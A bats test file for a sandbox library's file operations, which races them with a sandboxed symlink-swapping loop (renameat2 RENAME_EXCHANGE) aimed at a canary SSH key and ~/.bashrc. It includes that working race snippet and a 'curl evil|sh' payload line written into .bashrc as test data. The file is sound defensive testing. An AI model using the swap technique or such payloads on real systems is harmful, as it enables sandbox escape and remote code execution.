#!/usr/bin/env bats
# libsbx's policy-checked file operations, used by an agent outside the
# sandbox while a sandboxed process races them (THREATS API-01): it swaps
# a directory of the project with a symlink to the home, over and over
# (renameat2 RENAME_EXCHANGE), while the agent reads and writes "inside
# the project".  Judged from outside: the canary never read, ~/.bashrc
# never written.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() {
	esc_setup
	export PYTHONPATH="$SBX_TOP/examples" SBX_LIB="$SBX_BUILD/libsbx.so"
	[ -r "$SBX_LIB" ] || skip "libsbx.so not built"
	mkdir -p "$P/d/.ssh"
	echo safe > "$P/d/.ssh/id_rsa"
	echo "# project rc" > "$P/d/.bashrc"
	ln -s "$HOME" "$P/l"
	cp "$HOME/.bashrc" "$T/bashrc.before"
}
teardown() { esc_teardown; }

# The swapper, inside the sandbox, until killed (named after $MARK).
start_swapper() {
	: > "$T/sw.out"
	xsbx -- "$PY" -c '
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
print("WAITING", flush=True)
while True:
    libc.syscall(316, -100, b"d", -100, b"l", 2)  # renameat2 RENAME_EXCHANGE
' "$MARK" > "$T/sw.out" 2>&1 &
	bg_track $!
	wait_for 15 grep -q WAITING "$T/sw.out" || { cat "$T/sw.out" >&2; return 1; }
}

# The agent: read and write through libsbx for a while.
agent() {
	py_lib - "$P" "$1" <<'EOF'
import sys, time
from agent_tool import Sandbox, SbxError
proj, op = sys.argv[1], sys.argv[2]
# sbx_open checks the project as it finds it: caught mid-swap, it refuses
# to open (a symlink where the policy names a path); the race under test
# is the file operations', so open again until a moment without the link.
for attempt in range(500):
    try:
        sb = Sandbox(proj)
        break
    except SbxError:
        time.sleep(0.002)
else:
    sb = Sandbox(proj)
ok = refused = 0
seen = set()
end = time.time() + 3
while time.time() < end:
    try:
        if op == "read":
            seen.add(sb.read_file(proj + "/d/.ssh/id_rsa").decode(errors="replace"))
        else:
            sb.write_file(proj + "/d/.bashrc", b"curl evil|sh\n")
        ok += 1
    except SbxError:
        refused += 1
print("READ: " + " | ".join(sorted(seen)))
print("AGENT ok=%d refused=%d" % (ok, refused))
EOF
}

@test "API-01 sbx_read_file never follows a directory swapped for a symlink by the sandbox (RENAME_EXCHANGE race)" {
	start_swapper
	run agent read
	echo "${output: -300}"
	no_canary "$output"
	[[ "$output" == *"AGENT ok="* ]]
	[[ "$output" == *safe* ]]
}

@test "API-01 sbx_write_file never lands on ~/.bashrc through a swapped directory (RENAME_EXCHANGE race)" {
	start_swapper
	run agent write
	echo "${output: -300}"
	[[ "$output" == *"AGENT ok="* ]]
	cmp "$T/bashrc.before" "$HOME/.bashrc"
}

@test "API-01 sbx_write_file refuses a file with other hard links, and a FIFO does not hang sbx_read_file" {
	ln "$P/d/.bashrc" "$T/outside-link"
	run py_lib -c '
import sys
from agent_tool import Sandbox, SbxError
sb = Sandbox(sys.argv[1])
try:
    sb.write_file(sys.argv[1] + "/d/.bashrc", b"evil\n"); print("WROTE")
except SbxError as e:
    print("REFUSED", e)
' "$P"
	[[ "$output" == *REFUSED* ]]
	[ "$(cat "$T/outside-link")" = "# project rc" ]
	mkfifo "$P/fifo"
	run timeout 10 env ${ASAN_PRELOAD:+LD_PRELOAD="$ASAN_PRELOAD"} "$PY" -c '
import sys
from agent_tool import Sandbox, SbxError
sb = Sandbox(sys.argv[1])
try:
    sb.read_file(sys.argv[1] + "/fifo"); print("READ")
except SbxError as e:
    print("REFUSED", e)
' "$P"
	[ "$status" -eq 0 ]
	[[ "$output" == *REFUSED* ]]
}
